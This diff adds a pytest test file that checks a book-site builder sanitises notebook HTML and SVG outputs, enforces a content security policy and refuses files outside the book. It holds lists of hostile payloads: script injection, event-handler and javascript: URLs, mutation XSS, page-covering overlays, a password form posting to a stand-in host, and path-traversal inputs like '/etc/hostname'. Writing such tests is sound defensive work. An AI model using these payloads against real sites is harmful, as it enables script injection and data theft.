@@ -1,0 +1,232 @@
+"""Outputs that would run, ask other sites or cover the page; files outside the book."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from xml.etree import ElementTree
+
+import pytest
+from chromium import launch, served
+from conftest import MakeBook
+from playwright.sync_api import Browser, Route, sync_playwright
+
+from bookc.problems import BookError
+from bookc.read.read import read_book
+from bookc.run.record import Recorded
+from bookc.site.clean import safe_html, safe_svg
+from bookc.site.csp import with_policy
+from bookc.site.outputs import convert
+from bookc.site.pictures import Picture, svg_size
+from bookc.site.write import write_site
+
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {}</svg>'
+HOSTILE_HTML = [
+    "<script>ran = 1</script>",
+    '<script src="http://127.0.0.1:9/evil.js"></script>',
+    "<img src=x onerror='ran = 1'>",
+    "<img src='http://127.0.0.1:9/spy.png'>",
+    "<a href='javascript:ran = 1'>click</a>",
+    "<a href=' java&#10;script:ran = 1'>click</a>",
+    "<iframe srcdoc='<script>top.ran = 1</script>'></iframe>",
+    "<iframe src='http://127.0.0.1:9/'></iframe>",
+    "<object data='http://127.0.0.1:9/'></object><embed src='http://127.0.0.1:9/'>",
+    "<svg onload='ran = 1'><script>ran = 1</script></svg>",
+    "<svg><style><img src=x onerror='ran = 1'></style></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=ran=1>'>",
+    "<style>.top { display: none } body { background: url(http://127.0.0.1:9/bg.png) }</style>",
+    "<div style='position: fixed; inset: 0; z-index: 9; background: red'>covers</div>",
+    "<div class='top' id='bookc-content' popover>takes the page's names</div>",
+    "<link rel=stylesheet href='http://127.0.0.1:9/evil.css'><base href='http://127.0.0.1:9/'>",
+    "<meta http-equiv=refresh content='0; url=http://127.0.0.1:9/'>",
+    "<form action='http://127.0.0.1:9/'><input name=password><button>Send</button></form>",
+    "<video src='http://127.0.0.1:9/v.mp4' autoplay></video><details ontoggle='ran=1' open>",
+]
+HOSTILE_SVG = SVG.format("""viewBox="0 0 40 20" onload="ran = 1">
+<script>ran = 1; parent.ran = 1</script>
+<style>@import "http://127.0.0.1:9/evil.css";</style>
+<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:ran=1"/></foreignObject>
+<image href="http://127.0.0.1:9/spy.png"/><use xlink:href="http://127.0.0.1:9/a.svg#b"/>
+<a href="javascript:ran = 1"><text>click</text></a>
+<rect width="40" height="20" fill="green" style="fill: url(http://127.0.0.1:9/x)"/>""")
+CODE = "```{.python .input}\n#@tab all\n1\n```\n"
+
+
+def output(kind: str, text: str) -> dict[str, object]:
+    return {"output_type": "display_data", "data": {kind: text}, "metadata": {}}
+
+
+def build(root: Path, outputs: list[dict[str, object]]) -> Path:
+    """The site of a book of one page, which shows these outputs."""
+    book, refs = read_book(root)
+    recorded = {
+        (tab, "index-c1"): Recorded(tuple(outputs), stale=False) for tab in book.config.tabs
+    }
+    write_site(book, refs, recorded, {})
+    return root / "_build" / "html"
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as playwright:
+        chromium = launch(playwright)
+        yield chromium
+        chromium.close()
+
+
+def seen_by_a_visitor(browser: Browser, folder: Path, *names: str) -> set[str]:
+    """What went wrong when each page was opened and everything on it that can be clicked was."""
+    page = browser.new_page()
+    wrong: set[str] = set()
+
+    def asked(route: Route) -> None:  # what the policy stops never comes here
+        wrong.add("asked")
+        route.abort()
+
+    page.route("http://127.0.0.1:9/**", asked)
+    with served(folder) as address:
+        for name in names:
+            page.goto(f"{address}/{name}")
+            for link in page.locator("article a, .output button").all():
+                link.dispatch_event("click")
+            page.wait_for_timeout(100)
+            if page.evaluate("typeof ran !== 'undefined'"):
+                wrong.add("ran")
+            if not page.url.startswith(address):
+                wrong.add("left")
+            header = "document.elementFromPoint(innerWidth / 2, 20)?.closest('header.top')"
+            if name.endswith(".html") and not page.evaluate(f"!!{header}"):
+                wrong.add("covered")
+    page.close()
+    return wrong
+
+
+def test_nothing_in_an_output_runs(browser: Browser, make_book: MakeBook) -> None:
+    root = make_book({"index.md": f"# Book\n\n{CODE}"})
+    outputs = [output("text/html", html) for html in HOSTILE_HTML]
+    folder = build(root, [*outputs, output("image/svg+xml", HOSTILE_SVG)])
+    assert seen_by_a_visitor(browser, folder, "index.html") == set()
+    (svg,) = (folder / "_images").glob("*.svg")
+    # Opened by itself a picture is a page, which has no policy: it must be harmless as it is.
+    name = svg.relative_to(folder).as_posix()
+    assert seen_by_a_visitor(browser, folder, name) == set()
+
+
+def test_the_policy_holds_by_itself(browser: Browser, make_book: MakeBook) -> None:
+    folder = build(make_book({"index.md": "# Book\n\nText."}), [])
+    page = (folder / "index.html").read_text()
+    # Going to another page and borrowing the page's classes are not for a policy to stop.
+    runs = [html for html in HOSTILE_HTML if "refresh" not in html and "class=" not in html]
+    names = [f"{number}.html" for number in range(len(runs))]
+    for name, html in zip(names, runs, strict=True):
+        (folder / name).write_text(page.replace("</article>", f"{html}</article>"))
+    assert seen_by_a_visitor(browser, folder, *names) == set()
+
+
+def test_a_table_stays_a_table() -> None:
+    table = """<div><style scoped>.dataframe tbody tr th { vertical-align: top; }</style>
+<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th>a</th></tr></thead>
+<tbody><tr><td colspan="2">&lt;1&gt; <a href="https://example.org">x</a></td></tr></tbody></table>
+</div>"""
+    clean = " ".join(safe_html(table).split())
+    assert "<thead><tr><th>a</th></tr></thead>" in clean
+    link = '<a href="https://example.org" rel="noopener noreferrer">x</a>'
+    assert f'<td colspan="2">&lt;1&gt; {link}</td>' in clean
+    assert "style" not in clean and "class" not in clean
+
+
+def test_an_output_that_says_nothing_without_its_script_shows_its_text() -> None:
+    data = {"text/html": "<div id=x></div><script>draw()</script>", "text/plain": "<Widget>"}
+    (part,) = convert([{"output_type": "display_data", "data": data, "metadata": {}}])
+    assert part == '<pre class="output result"><samp>&lt;Widget&gt;</samp></pre>\n'
+
+
+def test_an_svg_keeps_what_it_draws() -> None:
+    style = "<style>* { stroke-linejoin: round }</style>"
+    drawing = '<defs><path id="p" d="M0 0"/></defs><use xlink:href="#p" style="fill: url(#g)"/>'
+    clean = safe_svg(SVG.format(f'width="30pt" height="15pt">{style}{drawing}'))
+    assert clean is not None
+    assert b"stroke-linejoin" in clean and b'href="#p"' in clean and b"url(#g)" in clean
+    hostile = safe_svg(HOSTILE_SVG)
+    assert hostile is not None
+    kept = [element.tag.rpartition("}")[2] for element in ElementTree.fromstring(hostile).iter()]
+    assert kept == ["svg", "image", "use", "rect"]
+    assert b"127.0.0.1" not in hostile and b"ran" not in hostile
+
+
+@pytest.mark.parametrize(
+    "text", ["", "<svg>", "no", "<html/>", '<!DOCTYPE s [<!ENTITY a "a">]><s/>']
+)
+def test_what_is_no_svg_is_not_shown_as_one(text: str) -> None:
+    assert safe_svg(text) is None
+
+
+@pytest.mark.parametrize(
+    ("attributes", "size"),
+    [
+        ('width="30pt" height="15pt"', (40, 20)),
+        ('width="400" viewBox="0 0 200 100"', (400, 200)),
+        ('viewBox="-1 -1 60.4 30"', (60, 30)),
+        ('width="100%" height="100%" viewBox="0,0,8,9"', (8, 9)),
+        ('width="100%"', None),
+        ('viewBox="0 0 0 0"', None),
+    ],
+)
+def test_the_size_of_an_svg(attributes: str, size: tuple[int, int] | None) -> None:
+    assert svg_size(SVG.format(f"{attributes}>").encode()) == size
+    (part,) = convert([output("image/svg+xml", SVG.format(f"{attributes}>"))])
+    assert isinstance(part, Picture)
+    assert (part.width, part.height) == (size or (300, 150))
+
+
+def test_a_trusted_section_shows_html_as_recorded(browser: Browser, make_book: MakeBook) -> None:
+    config = "[project]\ntitle = B\n[build]\ntabs = pytorch\n[bookc]\ntrusted_html = ind*\n"
+    root = make_book({"config.ini": config, "index.md": f"# Book\n\n{CODE}"})
+    scripts = "<script>ran = 1</script><img src='http://127.0.0.1:9/spy.png'>"
+    folder = build(root, [output("text/html", scripts)])
+    assert seen_by_a_visitor(browser, folder, "index.html") == {"ran"}
+
+
+def test_the_policy_names_scripts_and_styles_by_their_hashes() -> None:
+    place = '<meta http-equiv="Content-Security-Policy" content="">'
+    page = f'<head>{place}<script>1</script></head><script>2</script><p style="x:\'&quot;">'
+    policy = with_policy(page, trusted=False).split('content="')[1].split('">')[0]
+    one = "'sha256-a4ayc/80/OGda4BO/1o/V0etpOqiLx1JwB5S3beHW0s='"  # openssl dgst -sha256
+    assert f"script-src 'self' 'wasm-unsafe-eval' {one};" in policy
+    assert "'unsafe-inline'" not in policy
+    assert policy.count("sha256-") == 2
+
+
+@pytest.mark.parametrize("source", ["../../secret.png", "/etc/hostname", "link.png", "away/b.png"])
+def test_a_chapter_reads_no_file_outside_the_book(make_book: MakeBook, source: str) -> None:
+    root = make_book({"index.md": f"# Book\n\n![Secret]({source})"})
+    secret = root.parent / "secret.png"
+    secret.write_text("secret")
+    (root.parent / "b.png").write_text("secret")
+    (root / "link.png").symlink_to(secret)
+    (root / "away").symlink_to(root.parent)
+    with pytest.raises(BookError, match=f"no such image: {source}"):
+        read_book(root)
+
+
+def test_links_out_of_the_book_are_refused(make_book: MakeBook) -> None:
+    config = "[project]\ntitle = B\n[build]\ntabs = pytorch\nresources = img\n"
+    root = make_book({"config.ini": config, "index.md": "# Book", "img/inside.png": ""})
+    (root.parent / "secret.md").write_text("# Secret")
+    (root / "img" / "link.png").symlink_to(root.parent / "secret.md")
+    (root / "img" / "fine.png").symlink_to(root / "img" / "inside.png")
+    book, refs = read_book(root)
+    with pytest.raises(BookError, match=r"^img/link.png: a link that leads out of the book"):
+        write_site(book, refs, {}, {})
+    (root / "chapter.md").symlink_to(root.parent / "secret.md")
+    config_all = config.replace("resources = img", "notebooks = *.md")
+    (root / "config.ini").write_text(config_all)
+    with pytest.raises(BookError, match=r"^chapter.md: a link that leads out of the book"):
+        read_book(root)
+
+
+def test_a_picture_of_another_site_is_a_link(make_book: MakeBook) -> None:
+    root = make_book({"index.md": "# Book\n\n![A map](https://example.org/a.png)"})
+    page = (build(root, []) / "index.html").read_text()
+    assert '<a href="https://example.org/a.png">A map</a>' in page
+    assert "<img" not in page
